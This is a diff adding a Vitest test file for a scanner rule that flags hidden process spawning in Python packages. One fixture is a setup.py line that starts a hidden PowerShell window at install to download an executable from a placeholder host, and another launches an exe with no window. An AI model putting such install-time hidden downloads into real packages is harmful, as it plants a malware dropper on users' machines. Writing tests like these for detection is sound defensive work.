@@ -1,0 +1,16 @@
+import { describe, it, expect } from 'vitest';
+import { hits, maxSev } from './helpers.js';
+
+describe('hidden-spawn', () => {
+  it('flags powershell -w hidden at install (high)', () => {
+    const src = `import subprocess\nsubprocess.Popen('powershell -w hidden -c "iwr http://x/a.exe -OutFile a.exe"', shell=True)\n`;
+    expect(maxSev(hits('hidden-spawn', { 'setup.py': src }))).toBe('high');
+  });
+  it('flags CREATE_NO_WINDOW creation flags', () => {
+    const src = `import subprocess\ndef go():\n    subprocess.Popen(['x.exe'], creationflags=subprocess.CREATE_NO_WINDOW)\n`;
+    expect(maxSev(hits('hidden-spawn', { 'pkg/m.py': src }))).toBe('medium');
+  });
+  it('does not flag a visible subprocess call', () => {
+    expect(hits('hidden-spawn', { 'setup.py': `import subprocess\nsubprocess.check_call(['make', '-j2'])\n` })).toEqual([]);
+  });
+});
